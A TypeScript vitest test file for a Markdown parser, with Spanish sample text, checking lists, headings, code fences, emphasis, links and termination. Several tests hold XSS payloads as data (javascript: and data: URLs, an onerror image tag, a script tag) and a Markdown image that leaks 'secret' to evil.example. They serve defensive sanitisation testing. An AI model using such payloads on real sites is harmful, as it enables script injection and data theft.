import { expect, it } from 'vitest';
import { parseInline, parseMarkdown } from '../../../../functions/console/page/markdown.js';

const text = (content: string) => ({ type: 'text', text: content });
const strong = (content: string) => ({ type: 'strong', children: [text(content)] });
const emphasis = (content: string) => ({ type: 'emphasis', children: [text(content)] });

it('reads paragraphs, line breaks and lists', () => {
  expect(
    parseMarkdown('Hola\r\nCarlos\n\n- uno\n- **dos**\n\n2. tres\n3) cuatro\n   sigue\nFin'),
  ).toEqual([
    { type: 'paragraph', children: [text('Hola'), { type: 'break' }, text('Carlos')] },
    { type: 'list', ordered: false, start: 1, items: [[text('uno')], [strong('dos')]] },
    {
      type: 'list',
      ordered: true,
      start: 2,
      items: [[text('tres')], [text('cuatro'), { type: 'break' }, text('sigue')]],
    },
    { type: 'paragraph', children: [text('Fin')] },
  ]);
});

it('reads headings and fenced code, even unclosed', () => {
  expect(parseMarkdown('## Tu recibo ##\n```json\n{"a": "**b**"}\n```\n~~~\nabierto')).toEqual([
    { type: 'heading', children: [text('Tu recibo')] },
    { type: 'code', text: '{"a": "**b**"}' },
    { type: 'code', text: 'abierto' },
  ]);
});

it.each([
  ['**a** y *b*', [strong('a'), text(' y '), emphasis('b')]],
  ['__a__ y _b_', [strong('a'), text(' y '), emphasis('b')]],
  ['`**a**`', [{ type: 'code', text: '**a**' }]],
  ['**a *b* c**', [{ type: 'strong', children: [text('a '), emphasis('b'), text(' c')] }]],
  ['\\*a\\* 1\\. b', [text('*a* 1. b')]],
  ['5 * 3 * 2 y 2*3*4', [text('5 * 3 * 2 y 2'), emphasis('3'), text('4')]],
  ['snake_case_name y ** a **', [text('snake_case_name y ** a **')]],
  ['**sin fin', [text('**sin fin')]],
  ['', []],
])('reads %s', (source, inlines) => {
  expect(parseInline(source)).toEqual(inlines);
});

it('links web and mail addresses, with the label as plain text', () => {
  expect(parseInline('[Ayuda **ya**](https://a.example/x?y=1) o https://b.example/z.')).toEqual([
    { type: 'link', href: 'https://a.example/x?y=1', text: 'Ayuda **ya**' },
    text(' o '),
    { type: 'link', href: 'https://b.example/z', text: 'https://b.example/z' },
    text('.'),
  ]);
});

it.each([
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert)',
  '[x](data:text/html,x)',
  '[x](//evil.example)',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
])('leaves %s as text', (source) => {
  expect(parseInline(source)).toEqual([text(source)]);
});

it('leaves an image as text, so that it is not loaded', () => {
  const inlines = parseInline('![saldo](https://evil.example/?q=secret)');
  expect(inlines).toEqual([text('![saldo](https://evil.example/?q=secret)')]);
});

it.each(['*', '_a', '[', '`a', '**a ', '[a](', 'https://', '- ', '\\\\'])(
  'terminates for many repetitions of "%s"',
  (piece) => {
    expect(parseMarkdown(piece.repeat(4_000 / piece.length)).length).toBeGreaterThan(0);
  },
);
